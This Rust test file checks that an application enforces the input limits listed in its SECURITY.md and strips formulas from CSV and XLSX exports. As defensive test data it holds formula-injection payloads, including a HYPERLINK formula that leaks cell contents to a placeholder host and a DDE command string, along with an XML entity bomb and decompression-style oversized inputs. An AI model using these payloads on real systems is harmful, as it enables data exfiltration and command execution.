//! What comes from outside is read within limits, and what goes out to a spreadsheet brings no formula with it. The limits
//! stand in one table in `SECURITY.md`; each of its lines is tried here, at the limit and beyond it.

use std::path::{Path, PathBuf};

use serde_json::json;
use sonae_api::{Api, LONGEST_DIAGRAM, file};
use sonae_diagrams::{BpmnFault, read_bpmn};
use sonae_documents::logo::{LONGEST_LOGO, Logo, LogoError, MOST_SIDE};
use sonae_domain::{LONGEST_EVIDENCE, MOST_PHOTOS, MOST_PIXELS, PhotoError, clean_photo};
use sonae_package::{LONGEST_PARTS, MOST_PARTS, SHARE};
use sonae_tables::{
    LARGEST_FILE, LARGEST_UNPACKED, MOST_COLUMNS, MOST_ROWS, ReadAs, TableError, begins_formula,
};
use sonae_tests::{begun, call, refused};

struct Place {
    folder: tempfile::TempDir,
    api: Api,
}

impl Place {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let (api, _) = begun(folder.path(), "港");
        Place { folder, api }
    }

    /// A file of that many bytes; most of it is a hole.
    fn long(&self, bytes: u64) -> PathBuf {
        let path = self.folder.path().join("long");
        std::fs::File::create(&path).unwrap().set_len(bytes).unwrap();
        path
    }
}

/// The line of the table of limits that begins so.
fn line(begins: &str) -> String {
    let text = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../SECURITY.md")).unwrap();
    let found = text
        .lines()
        .find(|line| line.starts_with(&format!("| {begins} |")));
    found
        .unwrap_or_else(|| panic!("SECURITY.md has no limits of “{begins}”"))
        .to_owned()
}

/// 30000 as it is written there: 30,000.
fn figure(number: u64) -> String {
    let digits = number.to_string();
    let mut said = String::new();
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            said.push(',');
        }
        said.push(digit);
    }
    said
}

fn says(begins: &str, figures: &[String]) {
    let line = line(begins);
    for figure in figures {
        assert!(
            line.contains(figure.as_str()),
            "“{begins}” does not say {figure}: {line}"
        );
    }
}

#[test]
fn tables_are_read_within_limits() {
    says(
        "register and list of people",
        &[
            format!("{} MB", LARGEST_FILE / 1024 / 1024),
            figure(MOST_ROWS as u64),
            MOST_COLUMNS.to_string(),
            format!("{} MB", LARGEST_UNPACKED / 1024 / 1024),
        ],
    );
    let place = Place::new();
    let path = place.long(LARGEST_FILE as u64 + 1);
    for command in ["read_ledger", "read_roster"] {
        assert_eq!(
            refused(&place.api, command, json!({ "path": path })),
            "table-too-large"
        );
    }
    let open = |text: String| sonae_tables::open(text.as_bytes(), &ReadAs::default());
    assert!(open("a,b\n".repeat(MOST_ROWS)).is_ok());
    assert!(matches!(
        open("a,b\n".repeat(MOST_ROWS + 1)),
        Err(TableError::TooManyRows(_))
    ));
    assert!(open("a,".repeat(MOST_COLUMNS - 1)).is_ok());
    assert!(matches!(
        open("a,".repeat(MOST_COLUMNS)),
        Err(TableError::TooManyColumns(_))
    ));
    // How much a workbook unpacks to is tried where it is counted, in `tables/src/excel.rs`.
    let pasted = "a\tb\n".repeat(MOST_ROWS + 1);
    assert_eq!(
        refused(
            &place.api,
            "paste_cells",
            json!({ "text": pasted, "lines": [], "columns": ["name"] })
        ),
        "table-too-many-rows"
    );
}

#[test]
fn diagrams_are_read_within_limits() {
    says(
        "flow (BPMN)",
        &[
            format!("{} MB", LONGEST_DIAGRAM / 1_000_000),
            "60,000".into(),
            "100".into(),
        ],
    );
    let place = Place::new();
    let path = place.long(LONGEST_DIAGRAM + 1);
    assert_eq!(
        refused(&place.api, "read_flow_file", json!({ "path": path })),
        "flow-file-too-large"
    );
    let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert_eq!(read_bpmn(&nested(100)).err(), Some(BpmnFault::NotBpmn));
    assert_eq!(read_bpmn(&nested(101)).err(), Some(BpmnFault::TooLarge));
    let many = |count: usize| format!("<a>{}</a>", "<b/>".repeat(count - 1));
    assert_eq!(read_bpmn(&many(60_000)).err(), Some(BpmnFault::NotBpmn));
    assert_eq!(read_bpmn(&many(60_001)).err(), Some(BpmnFault::TooLarge));
    let bomb = "<!DOCTYPE a [<!ENTITY b \"bbbbbbbb\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>";
    assert_eq!(read_bpmn(bomb).err(), Some(BpmnFault::Entities));
}

#[test]
fn evidence_and_pictures_are_taken_within_limits() {
    let most = format!("{} MB", LONGEST_EVIDENCE / 1024 / 1024);
    says("evidence", std::slice::from_ref(&most));
    says(
        "photo on a note",
        &[most, MOST_PHOTOS.to_string(), figure(MOST_PIXELS)],
    );
    says(
        "logo and letterhead",
        &[
            format!("{} MB", LONGEST_LOGO / 1_000_000),
            figure(u64::from(MOST_SIDE)),
        ],
    );
    let place = Place::new();
    let path = place.long(LONGEST_EVIDENCE + 1);
    let evidence = json!({ "action": "gv-understand-1", "path": path });
    assert_eq!(refused(&place.api, "add_evidence_file", evidence), "too-large");
    let photo = json!({ "note": "n", "path": path });
    assert_eq!(refused(&place.api, "add_note_photo", photo), "too-large");
    let path = place.long(LONGEST_LOGO + 1);
    assert_eq!(
        refused(&place.api, "choose_logo", json!({ "path": path })),
        "logo-too-long"
    );
    // What a picture says of its size is looked at before anything is unpacked.
    assert!(matches!(
        clean_photo(&png(9_000, 9_000)),
        Err(PhotoError::TooFine(81))
    ));
    assert!(matches!(
        Logo::read(&png(MOST_SIDE + 1, 10)),
        Err(LogoError::TooFine)
    ));
}

/// A PNG that says it has so many pixels and has none.
fn png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = vec![0x89, b'P', b'N', b'G', b'\r', b'\n', 0x1A, b'\n'];
    let mut chunk = |kind: &[u8; 4], data: &[u8]| {
        bytes.extend_from_slice(&(data.len() as u32).to_be_bytes());
        bytes.extend_from_slice(kind);
        bytes.extend_from_slice(data);
        let mut crc = u32::MAX;
        for byte in kind.iter().chain(data) {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = (crc >> 1) ^ (0xEDB8_8320 & (crc & 1).wrapping_neg());
            }
        }
        bytes.extend_from_slice(&(!crc).to_be_bytes());
    };
    let mut head = [width.to_be_bytes(), height.to_be_bytes()].concat();
    head.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(b"IHDR", &head);
    chunk(b"IDAT", &[0x78, 0x9C, 3, 0, 0, 0, 0, 1]);
    chunk(b"IEND", &[]);
    bytes
}

#[test]
fn a_company_as_json_is_read_within_limits() {
    says(
        "company as JSON",
        &[format!("{} MB", file::LONGEST_COMPANY / 1_000_000), "128".into()],
    );
    let place = Place::new();
    let target = place.folder.path().join("neu.sonae");
    let import = |json: &str| file::import(&target, json, &file::stamp_now()).unwrap_err().code;
    let long = " ".repeat(file::LONGEST_COMPANY as usize + 1);
    assert_eq!(import(&long), "bad-import");
    let deep = format!(
        "{{\"format\":\"sonae-company\",\"version\":1,\"answers\":{{\"company\":{{\"fields\":{{\"name\":{}{}}}}}}}}}",
        "[".repeat(200_000),
        "]".repeat(200_000)
    );
    assert_eq!(import(&deep), "bad-import");
    assert!(!target.exists(), "nothing was made");
}

#[test]
fn a_package_is_unpacked_within_limits() {
    // Each is tried where packages are made and opened, in `src-tauri/package/tests/package.rs`.
    says(
        "package",
        &[
            figure(MOST_PARTS as u64),
            format!("{} GB", LONGEST_PARTS >> 30),
            format!("{SHARE} times"),
        ],
    );
}

/// What people write, and what somebody may have hidden in a list that was imported.
const TEXTS: [&str; 10] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"台帳\")",
    "=cmd|'/C calc'!A0",
    "+81 3 1234 5678",
    "-1+1",
    "@SUM(1)",
    "'=2+1",
    "''=3",
    "＝1+1",
    "＋1",
    "名簿=2",
];
/// The same behind what some programs pass over. Blanks at the beginning of a cell do not come back.
const BEHIND_BLANKS: [&str; 3] = ["\t=1+1", "\r=1+1", "\n=1+1"];

#[test]
fn what_a_spreadsheet_opens_has_no_formula_of_somebody_and_is_read_back_whole() {
    let place = Place::new();
    put(&place, &TEXTS);
    for form in ["csv", "xlsx"] {
        let path = exported(&place, form);
        let preview = call(
            &place.api,
            "read_ledger",
            json!({ "path": path, "way": "update" }),
        );
        assert_eq!(preview["same"], TEXTS.len(), "{form}: {preview}");
    }
    put(&place, &BEHIND_BLANKS);
    let text = std::fs::read_to_string(exported(&place, "csv")).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let rows = sonae_tables::rows_of_text(text, sonae_tables::Separator::Comma);
    assert!(rows.len() > TEXTS.len() + BEHIND_BLANKS.len());
    for cell in rows.iter().flatten() {
        assert!(
            cell.starts_with('\'') || !begins_formula(cell),
            "a formula leaves: {cell:?}"
        );
    }
}

/// Lines of the register that say so everywhere.
fn put(place: &Place, texts: &[&str]) {
    for text in texts {
        let asset = json!({ "id": "", "name": text, "note": text, "department": text });
        call(&place.api, "put_asset", json!({ "asset": asset }));
    }
}

fn exported(place: &Place, form: &str) -> PathBuf {
    let path = place.folder.path().join(format!("台帳.{form}"));
    let args = json!({ "path": path, "form": form, "lang": "ja" });
    call(&place.api, "export_ledger", args);
    path
}

/// Every formula in a workbook of ours is one of ours: the importance of a line.
#[test]
fn no_sheet_of_a_workbook_has_a_formula_that_was_not_ours() {
    let place = Place::new();
    let asset = json!({ "id": "", "name": "=1+1", "note": "=2+2" });
    call(&place.api, "put_asset", json!({ "asset": asset }));
    let path = place.folder.path().join("台帳.xlsx");
    call(
        &place.api,
        "export_ledger",
        json!({ "path": path, "form": "xlsx", "lang": "en" }),
    );
    let mut book = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(&mut book.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet)
        .unwrap();
    let formulas: Vec<&str> = sheet
        .split("<f>")
        .skip(1)
        .filter_map(|rest| rest.split("</f>").next())
        .collect();
    assert!(!formulas.is_empty());
    assert!(
        formulas
            .iter()
            .all(|formula| formula.starts_with("IF(OR(COUNTIF(")),
        "{formulas:?}"
    );
}

#[test]
fn every_place_that_the_threat_model_names_is_there() {
    let top = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let text = std::fs::read_to_string(top.join("SECURITY.md")).unwrap();
    let named: Vec<&str> = text
        .split('`')
        .skip(1)
        .step_by(2)
        .filter(|word| word.contains('/') && word.contains('.') && !word.contains(' '))
        .collect();
    assert!(named.len() > 30, "{named:?}");
    for place in named {
        assert!(
            top.join(place).exists(),
            "SECURITY.md names {place}, which is not there"
        );
    }
}
